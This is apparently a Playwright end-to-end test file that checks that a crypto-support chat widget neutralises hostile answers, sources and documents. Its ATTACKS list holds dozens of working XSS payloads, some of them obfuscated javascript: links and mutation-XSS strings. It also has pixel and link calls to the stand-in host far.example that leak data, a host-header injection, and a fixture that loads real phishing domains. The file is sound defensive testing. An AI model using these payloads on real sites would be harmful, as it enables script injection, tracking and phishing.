"""Answers and sources that attack the page: nothing runs, nothing is loaded from elsewhere."""

import asyncio
import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, Route, expect

from candor.bootstrap.samples import index_samples
from tests.end_to_end.service import Service, settings_for
from tests.shared_data import rows
from tests.simulator import Simulator
from tests.web.visitor import Visitor

QUESTION = "How do I stake my ETH?"
RUN = "window.__pwned=1;alert(1)"
FAR = "https://far.example"
ATTACKS = (
    f"<script>{RUN}</script>",
    f"<script src={FAR}/a.js></script>",
    f'<img src=x onerror="{RUN}">',
    f'<img src="{FAR}/pixel.gif?q=secret">',
    f'<svg onload="{RUN}"><image href="{FAR}/a.svg"/></svg>',
    f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="{FAR}/a"></object><embed src="{FAR}/b">',
    f'<link rel=stylesheet href="{FAR}/a.css"><style>@import "{FAR}/b.css";</style>',
    f'<meta http-equiv=refresh content="0;url={FAR}">',
    f'<a href="javascript:{RUN}" onmouseover="{RUN}">here</a>',
    f'<form action="{FAR}"><input autofocus onfocus="{RUN}"><button>Send</button></form>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<video autoplay onplay="{RUN}"><source src="{FAR}/a.mp4" onerror="{RUN}"></video>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"![tracked]({FAR}/pixel.png?answer=all-of-it)",
    f"![tracked][far]\n\n[far]: {FAR}/pixel.png",
    f"[![tracked]({FAR}/a.png)]({FAR}/b)",
    "![local](/favicon.svg) ![data](data:image/svg+xml;base64,PHN2Zy8+)",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    f"[click](\x01javascript:{RUN})",
    f"[click](java\nscript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](vbscript:{RUN})",
    "[click](//far.example/a)",
    "[click](https://user:secret@docs.example/a)",
    "[click](https://docs.example@far.example/a)",
    "[click](blob:https://far.example/1)",
    f"<javascript:{RUN}>",
    f"<{FAR}/autolink>",
    f"{FAR}/bare and www.far.example",
    f'[title](https://docs.example "x\\" onmouseover={RUN}")',
    f"[1]({FAR}) [2](javascript:{RUN}) [^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"`</code><img src=x onerror={RUN}>`",
    f"```html\n</pre><script>{RUN}</script>\n```",
    f"| a |\n| - |\n| <img src=x onerror={RUN}> |",
)


@pytest.fixture(scope="module")
def phished() -> list[str]:
    """Addresses of real phishing sites, as links and images of Markdown and HTML."""
    domains = [row["domain"] for row in rows("attacks/cryptoscamdb-domains-open")[:300]]
    domains += [row["domain"] for row in rows("attacks/polkadotjs-phishing-domains-open")[:300]]
    shapes = (
        "[Claim your tokens](https://{0}/claim)",
        "![logo](https://{0}/logo.png)",
        '<img src="https://{0}/logo.png">',
        "<https://{0}>",
    )
    return [shapes[at % 4].format(domain) for at, domain in enumerate(domains)]


def turn(text: str, sources: list[dict[str, Any]]) -> dict[str, Any]:
    """A turn's body as docs/api.md has it, whose words nobody checked."""
    return {
        "answer": text,
        "sources": sources,
        "language": "en",
        "thread_id": "t-1",
        "turn_id": "01a00000-0000-7000-8000-000000000001",
        "validation": {
            "is_safe": True,
            "confidence_score": 90,
            "warnings": [],
            "disclaimer": None,
            "risk_warning": None,
        },
        "routing": {"provider": "openai", "fallback": False, "degraded": False, "attempts": []},
        "privacy": {"redacted": {}, "notice": None},
        "usage": {"tier": "free", "used": 1, "limit": 100, "overage": 0, "period": "2026-12"},
        "cached": False,
        "stopped": False,
        "disclosure": "Automated.",
    }


def stream(text: str, sources: list[dict[str, Any]]) -> str:
    """The same as the events of a stream."""
    named = {"turn_id": "01a00000-0000-7000-8000-000000000001", "thread_id": "t-1"}
    parts: list[dict[str, Any]] = [
        {"type": "start", "messageId": named["turn_id"], "messageMetadata": named},
        {"type": "text-start", "id": "1"},
        {"type": "text-delta", "id": "1", "delta": text},
        {"type": "text-end", "id": "1"},
        {"type": "data-turn", "data": turn(text, sources)},
        {"type": "finish"},
    ]
    return "".join(f"id: {at}\ndata: {json.dumps(part)}\n\n" for at, part in enumerate(parts))


def unchecked(visitor: Visitor, text: str, sources: list[dict[str, Any]]) -> None:
    """Let a text reach the widget as if the service's own checks had let it through."""

    def answer(route: Route) -> None:
        headers = {"content-type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1"}
        route.fulfill(status=200, headers=headers, body=stream(text, sources))

    visitor.page.route("**/api/chat/stream", answer)
    visitor.ask(QUESTION)
    visitor.answered()


def source(text: str, number: int = 1, url: str | None = None) -> dict[str, Any]:
    return {
        "id": number,
        "kind": "doc",
        "source": text,
        "title": text,
        "heading": text,
        "url": url,
        "snippet": text,
        "score": 0.9,
    }


def links(visitor: Visitor) -> list[str]:
    """Every address that the conversation links to."""
    found: list[str] = visitor.log.locator("a").evaluate_all("all => all.map((one) => one.href)")
    return found


def poke(visitor: Visitor) -> None:
    """Move over and press whatever an answer put there."""
    visitor.log.locator("a, details, summary").evaluate_all(
        "all => all.forEach((one) => { one.dispatchEvent(new MouseEvent('mouseover', "
        "{ bubbles: true })); one.addEventListener('click', (event) => event.preventDefault()); "
        "one.click() })"
    )


def test_attacks_in_an_answer_that_nobody_checked(visitor: Visitor, service: Service) -> None:
    host = urlsplit(service.url).netloc
    sources = [source("Docs", url="https://docs.example/page")]
    unchecked(visitor, "\n\n".join(ATTACKS) + "\n\n[good](https://docs.example/more)", sources)
    poke(visitor)
    visitor.is_unharmed(host)
    assert (
        visitor.log.locator(
            "script, img, svg image, iframe, object, embed, style, link, form input, video, meta"
        ).count()
        == 0
    )
    allowed = links(visitor)
    assert "https://docs.example/more" in allowed
    assert {urlsplit(one).netloc for one in allowed} == {"docs.example"}
    for link in visitor.log.locator("a").all():
        assert link.get_attribute("target") == "_blank"
        assert {"noopener", "noreferrer"} <= set((link.get_attribute("rel") or "").split())


def test_attacks_in_sources_that_nobody_checked(visitor: Visitor, service: Service) -> None:
    bad = [f"javascript:{RUN}", "data:text/html,x", "//far.example", "https://a:b@far.example", ""]
    sources = [
        source(attack, number, bad[number % len(bad)])
        for number, attack in enumerate(ATTACKS, start=1)
    ]
    unchecked(visitor, "All of it [1] [2].", sources)
    for number in (1, 2):
        visitor.button(f"Source {number}").click()
        expect(visitor.widget.locator("blockquote:visible")).to_have_text(ATTACKS[number - 1])
    lines = visitor.widget.get_by_role("list", name="Sources").get_by_role("listitem")
    for line in lines.all():
        line.get_by_role("button").click()
    poke(visitor)
    visitor.is_unharmed(urlsplit(service.url).netloc)
    assert visitor.log.locator("script, img, iframe, object, embed, style, form input").count() == 0
    assert links(visitor) == []


def test_phishing_links_and_images_are_not_followed(
    visitor: Visitor, service: Service, phished: list[str]
) -> None:
    unchecked(visitor, "\n\n".join(phished), [source("Docs", url="https://docs.example")])
    poke(visitor)
    visitor.is_unharmed(urlsplit(service.url).netloc)
    assert set(links(visitor)) == {"https://docs.example/"}, "only the source's own"
    assert visitor.log.locator("img").count() == 0


def test_attacks_that_a_provider_writes(
    visitor: Visitor, service: Service, simulator: Simulator
) -> None:
    for start in range(0, len(ATTACKS), 13):
        text = "Stake your ETH with 32 ETH [1].\n\n" + "\n\n".join(ATTACKS[start : start + 13])
        simulator.answer_with("openai", text)
        visitor.ask(QUESTION)
        visitor.answered(start // 13 + 1)
    poke(visitor)
    visitor.is_unharmed(urlsplit(service.url).netloc)
    assert visitor.log.locator("script, img, iframe, object, embed, form input").count() == 0


@pytest.fixture(scope="module")
def poisoned(
    web: Path, indexed: Path, _simulator: Simulator, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Service]:
    """A service whose documents hold attacks, in their headings and in their words."""
    folder = tmp_path_factory.mktemp("poisoned")
    for number, attack in enumerate(ATTACKS):
        text = f"# Staking ETH {attack}\n\nYou stake ETH by depositing 32 ETH. {attack}\n"
        (folder / f"staking-{number}.md").write_text(text, "utf-8")
    settings = settings_for(folder / "data", _simulator, knowledge_dir=folder)
    with ThreadPoolExecutor(1) as thread:
        report = thread.submit(asyncio.run, index_samples(settings)).result()
    assert report is not None
    assert report.chunks >= len(ATTACKS) / 2
    with Service(settings, web=web) as service:
        yield service


def test_attacks_in_documents(page: Page, poisoned: Service) -> None:
    visitor = Visitor(page).visit(poisoned.url)
    for answers, question in enumerate(("How do I stake ETH?", "What is staking ETH?"), start=1):
        visitor.ask(question)
        visitor.answered(answers)
    lines = visitor.widget.get_by_role("list", name="Sources").get_by_role("listitem")
    assert lines.count() > 0
    for line in lines.all():
        line.get_by_role("button").click()
    poke(visitor)
    visitor.is_unharmed(urlsplit(poisoned.url).netloc)
    assert visitor.log.locator("script, img, iframe, object, embed, style, form input").count() == 0
    assert {urlsplit(one).netloc for one in links(visitor)} <= {urlsplit(poisoned.url).netloc}


def test_attacks_in_the_page_that_is_asked_from(page: Page, service: Service) -> None:
    visitor = Visitor(page)
    page.goto(
        f"{service.url}/?q=%3Cscript%3E{RUN}%3C/script%3E#%22%3E%3Cimg src=x onerror={RUN}%3E"
    )
    expect(visitor.field).to_be_visible()
    answer = httpx.get(service.url, headers={"host": f'localhost"><script>{RUN}</script>'})
    assert f"<script>{RUN}" not in answer.text
    visitor.ask(f'<img src=x onerror="{RUN}"> <b>What</b> is staking?')
    visitor.answered()
    expect(visitor.log).to_contain_text("<b>What</b>")
    visitor.is_unharmed(urlsplit(service.url).netloc)
